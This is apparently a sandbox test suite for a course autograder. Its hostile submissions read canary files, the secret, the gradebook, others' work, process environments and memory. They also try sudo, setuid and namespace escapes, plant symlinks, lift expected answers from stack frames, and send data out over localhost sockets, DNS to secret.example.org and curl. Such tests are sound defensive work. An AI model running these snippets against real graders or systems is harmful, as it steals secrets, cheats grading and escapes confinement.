"""Reading what is hidden, and getting it out: printed, raised, returned, or sent over the network."""

from __future__ import annotations

from hostile.case import NOTHING, Family, Handed

family = Family("reading what is hidden")
code, case = family.code, family.case

SAYS = """
def says(path):
    try:
        print(path, open(path, errors="replace").read())
    except OSError as error:
        print(path, error)
"""
code(
    "read-canary",
    "reads a file of the instructor's outside of the course",
    SAYS + "says('{canary}')\nsays('/proc/1/root{canary}')\nsays('/proc/self/root{canary}')",
    answer=False,
)
code(
    "read-secret",
    "reads the course's secret, in its folder and in every folder above",
    SAYS
    + "for up in ('{root}/', '', '../', '../../', '../../../', '../../../../'): says(up + '.course_secret')",
    answer=False,
)
code(
    "read-solutions",
    "walks the disk for solutions",
    """
import os
for top in ("{root}", "/work", "/home", "/root", "/srv", "/tmp", "/scratch"):
    for place, folders, names in os.walk(top):
        for name in names:
            if name.endswith((".ipynb", ".py", ".db")) and ("solution" in place or "submitted" in place):
                print(name, open(os.path.join(place, name), errors="replace").read()[:100_000])
""",
    answer=False,
)
code(
    "read-gradebook",
    "opens the gradebook, hidden tests and all",
    """
import sqlite3
try:
    for table in ("student", "source_cell", "grade"):
        book = sqlite3.connect("file:{root}/gradebook.db?mode=ro", uri=True)
        print(book.execute(f"select * from {table}").fetchall())
except sqlite3.Error as error:
    print(error)
""",
    answer=False,
)
code(
    "read-neighbour",
    "reads what others handed in",
    """
import glob, tempfile
for pattern in ("{root}/submitted/*/*/*", "../../*/*/*", tempfile.gettempdir() + "/grading-*/**"):
  for path in glob.glob(pattern):
    print(path, open(path).read())
""",
    answer=False,
)
code(
    "read-environment",
    "prints the environment, its own and that of every process",
    """
import glob, os
print(dict(os.environ))
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
    try:
        print(path, open(path).read())
    except OSError as error:
        print(error)
""",
    answer=False,
)
code(
    "read-memory",
    "searches its own memory for a canary that the fork might have copied",
    """
import re
found = []
for line in open("/proc/self/maps"):
    low, high = (int(x, 16) for x in line.split()[0].split("-"))
    if line.split()[1].startswith("rw") and high - low < 2**27:
        try:
            with open("/proc/self/mem", "rb") as memory:
                memory.seek(low)
                found += re.findall(rb"canary[0-9a-f]{24}", memory.read(high - low))
        except (OSError, ValueError, OverflowError):
            pass
print(found)
""",
    answer=False,
)
code(
    "read-parents",
    "looks into the memory and the open files of process 1 and of its parent",
    """
import glob, os
for pid in (1, os.getppid()):
    of = f"/proc/{pid}/"
    for path in (of + "mem", of + "environ", *glob.glob(of + "fd/*"), of + "cwd"):
        try:
            print(path, os.readlink(path) if "fd" in path or "cwd" in path else open(path, "rb").read(100))
        except OSError as error:
            print(path, error)
""",
    answer=False,
)
code(
    "read-hidden-cases",
    "imports the exercises, the judge and the secret's module for the hidden cases",
    """
import importlib
for name in ("exercises.02_attention.attention", "judging.judge", "naming.name", "questions.personal",
             "questions.draw", "exercise.compare", "slips.patch", "batch.grade"):
    try:
        print(vars(importlib.import_module("grader." + name)))
    except ImportError as error:
        print(error)
""",
    answer=False,
)
code(
    "read-frames",
    "walks the callers' frames and all objects for expected values",
    NOTHING
    + """
def attention(q, k, v, mask=None):
    import gc, sys
    frame, seen = sys._getframe(), {}
    while frame:
        seen |= {name: value for name, value in frame.f_locals.items() if name in ("expected", "reference")}
        frame = frame.f_back
    for name, value in seen.items():
        if isinstance(value, torch.Tensor):
            return value
    raise RuntimeError(repr([o for o in gc.get_objects() if type(o).__name__ == "Function"])[:200])
""",
)
code(
    "read-pre-run-cell",
    "prints the text of every cell before it runs, hidden tests too",
    """
get_ipython().events.register("pre_run_cell", lambda info: print("HIDDEN", info.raw_cell[:5000]))
""",
    answer=False,
)


def raised(handed: Handed) -> None:
    handed.answer("def attention(q, k, v, mask=None):\n    raise ValueError(open('{canary}').read())")


case("read-raised", "has the canary read out in an error's message, which feedback shows", raised)
code(
    "read-returned",
    "returns the canary as its answer, which feedback might quote",
    "def attention(q, k, v, mask=None):\n    "
    "return open('{canary}').read() + open('{root}/.course_secret').read()",
)
code(
    "read-setuid",
    "looks for another way up: sudo, su, setuid programs, a new namespace",
    """
import ctypes, os, subprocess
for words in (["sudo", "-n", "cat", "{canary}"], ["su", "-c", "cat {canary}"],
              ["unshare", "-r", "cat", "{canary}"],
              ["find", "/usr", "-perm", "-4000"], ["nsenter", "-t", "1", "-m", "cat", "{canary}"]):
    try:
        print(subprocess.run(words, capture_output=True, text=True, timeout=20, stdin=subprocess.DEVNULL))
    except OSError as error:
        print(error)
for user in (0, 1000):
    try:
        os.setuid(user)
    except OSError as error:
        print(error)
""",
    answer=False,
)
code(
    "read-links",
    "puts links to hidden files where the grader picks files up",
    """
import os
for target in ("{canary}", "{root}/gradebook.db", "{root}/.course_secret"):
    for name in ("02_attention.ipynb", "timestamp.txt", "data.csv"):
        try:
            os.path.lexists(name) and os.unlink(name)
            os.symlink(target, name)
        except OSError as error:
            print(error)
""",
    answer=False,
)


def linked_data(handed: Handed) -> None:
    handed.links |= {"data.csv": "{canary}", "more": "{root}", "up": "../../.."}
    handed.add(SAYS + "says('data.csv'); says('more/.course_secret'); says('up/.course_secret')")


case("read-handed-links", "hands in links to hidden files and folders", linked_data)
network = Family("network")
code = network.code
code(
    "net-localhost",
    "connects to a port of the machine that grades, and sends what it has",
    "import socket\nfor host in ('127.0.0.1', 'localhost', '::1', '0.0.0.0'):\n"
    "    try:\n        socket.create_connection((host, {port}), 1).sendall(b'mine')\n"
    "    except OSError as error:\n        print(error)",
    answer=False,
)
code(
    "net-unix",
    "connects to sockets that are files, of others and of other kernels",
    """
import glob, socket
for path in ["{socket}", "/kernel/socket-1", *glob.glob("/tmp/*/*/socket*"), *glob.glob("/run/*")]:
    try:
        socket.socket(socket.AF_UNIX).connect(path)
        print("connected", path)
    except OSError as error:
        print(path, error)
""",
    answer=False,
)
code(
    "net-abstract",
    "connects to sockets without a file, of everybody on the machine",
    """
import socket
names = [line.split()[-1] for line in open("/proc/net/unix") if "@" in line]
for name in names[:50] + ["@dbus-session"]:
    try:
        socket.socket(socket.AF_UNIX).connect("\\0" + name[1:])
        print("connected", name)
    except OSError as error:
        print(name, error)
""",
    answer=False,
)
code(
    "net-dns",
    "asks the name server for a name made of a secret",
    "import socket\ntry:\n    socket.getaddrinfo('secret.example.org', 80)\n"
    "except OSError as error:\n    print(error)",
    answer=False,
)
code(
    "net-http",
    "fetches its answer with HTTP, in three ways",
    """
import subprocess, urllib.request
for url in ("http://127.0.0.1:{port}/answer", "http://192.0.2.1/answer"):
    try:
        print(urllib.request.urlopen(url, timeout=1).read())
    except OSError as error:
        print(error)
    print(subprocess.run(f"curl -m 1 {url}", shell=True, capture_output=True))
""",
    answer=False,
)
code(
    "net-raw",
    "opens raw, netlink and vsock sockets",
    """
import socket
for family, kind in ((socket.AF_INET, socket.SOCK_RAW), (socket.AF_PACKET, socket.SOCK_RAW),
                     (socket.AF_NETLINK, socket.SOCK_RAW), (40, socket.SOCK_STREAM)):
    try:
        print(socket.socket(family, kind))
    except OSError as error:
        print(error)
""",
    answer=False,
)
code(
    "net-listen",
    "listens, and waits for somebody outside to connect",
    "import socket, threading\nserver = socket.create_server(('', 0))\n"
    "threading.Thread(target=server.accept, daemon=True).start()",
    answer=False,
)
